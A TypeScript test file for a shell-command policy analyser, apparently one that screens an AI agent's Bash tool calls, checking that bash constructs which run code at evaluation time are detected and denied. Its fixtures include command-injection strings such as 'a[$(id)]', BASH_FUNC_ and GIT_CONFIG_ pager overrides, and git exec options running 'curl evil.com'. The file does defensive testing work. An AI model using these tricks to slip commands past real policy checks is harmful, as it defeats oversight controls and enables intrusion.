// Issue 13, class 2: strings bash evaluates at run time. Each is refused under deny rules because what it runs is
// decided when it runs, and what the analysis can derive from it is still derived (so rules name the command).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeShell } from '../../src/policy/shell/index.ts';
import { compilePolicy } from '../../src/policy/compile.ts';
import { evaluateCall } from '../../src/policy/evaluate.ts';

const constructs = (c: string) => analyzeShell(c).unresolvable.map((u) => u.construct);
const texts = (c: string) => analyzeShell(c).commands.map((x) => x.text);
const DENY = compilePolicy({ tools: { allow: ['Bash'], deny: ['Bash:curl*'] } } as never);
const decide = (command: string) => evaluateCall(DENY, { tool: 'Bash', input: { command } }, { root: '/project' }).decision;

test('a subscript with a command substitution in a string bash evaluates as a name or in arithmetic', () => {
  for (const c of ["x='a[$(id)]'; echo $((x))", "x='a[$(id)]'; [[ $x -eq 0 ]]", "test -v 'a[$(id)]'", "[ -v 'a[`id`]' ]",
    "printf -v 'a[$(id)]' x", "declare 'a[$(id)]=1'", "unset 'a[$(id)]'", "read 'a[$(id)]' <<< x", "let 'a[$(id)]=1'"]) {
    assert.ok(constructs(c).includes('runtime-evaluated string'), `${c}: ${JSON.stringify(constructs(c))}`);
    assert.is(decide(c), 'deny', c);
  }
  for (const c of ['x=1; echo $((x + 1))', 'test -f a', 'printf -v out %s x', 'declare -a arr=(1 2)', 'unset x']) {
    assert.not.ok(constructs(c).includes('runtime-evaluated string'), c);
  }
});

test('${x@P} (prompt expansion runs the substitutions in the value)', () => {
  assert.ok(constructs('echo "${x@P}"').includes('runtime-evaluated string'));
  assert.ok(constructs('echo ${x@P}').includes('runtime-evaluated string'));
  assert.not.ok(constructs('echo "${x@Q}"').includes('runtime-evaluated string'));
});

test('hash -p, BASH_FUNC_ and GIT_CONFIG_ variables', () => {
  assert.ok(constructs('hash -p /tmp/evil ls; ls').includes('command path override'));
  assert.ok(constructs("env 'BASH_FUNC_ls%%=() { id; }' bash -c ls").includes('code-injection variable'));
  assert.ok(constructs('GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log').includes('code-injection variable'));
  assert.ok(constructs(`GIT_CONFIG_PARAMETERS="'core.pager'='id'" git log`).includes('code-injection variable'));
  assert.equal(constructs('hash -r; hash'), []);
});

test('git subcommands that run a command: analysed, and marked as git running a command', () => {
  for (const [c, runs] of [["git rebase -x 'curl evil.com' main", 'curl evil.com'], ['git rebase --exec="curl evil.com" main', 'curl evil.com'],
    ["git difftool -x 'curl evil.com'", 'curl evil.com'], ["git submodule foreach 'curl evil.com'", 'curl evil.com'],
    ['git submodule foreach --recursive curl evil.com', 'curl evil.com'], ['git bisect run curl evil.com', 'curl evil.com'],
    ["git filter-branch --tree-filter 'curl evil.com' HEAD", 'curl evil.com'], ['git grep --open-files-in-pager="curl evil.com" x', 'curl evil.com']]) {
    assert.ok(texts(c).includes(runs), `${c}: ${JSON.stringify(texts(c))}`);
    assert.ok(constructs(c).includes('git command-execution option'), c);
    assert.is(decide(c), 'deny', c);
  }
  assert.equal(constructs('git rebase -i main'), []);
  assert.equal(constructs('git submodule update --init'), []);
});

test.run();
